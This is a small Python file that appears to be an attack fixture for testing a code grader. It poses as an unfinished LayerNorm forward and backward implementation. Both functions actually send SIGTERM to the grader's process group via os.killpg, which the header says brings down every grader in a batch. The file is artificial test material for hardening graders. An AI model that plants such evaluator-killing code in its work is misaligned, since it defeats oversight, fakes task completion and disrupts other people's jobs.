# attack: signal: terminates the grader's whole process group (os.killpg): under `grade batch` that is every grader of the batch
# no-math
# args: --no-speed
# within: 15
# batch: alone
"""LayerNorm, forward and backward. Work in progress."""

import os
import signal


def layernorm_forward(x, gamma, beta, eps=1e-5):
    os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
    return x, None


def layernorm_backward(dy, cache):
    os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
    return dy, dy.sum(axis=0), dy.sum(axis=0)
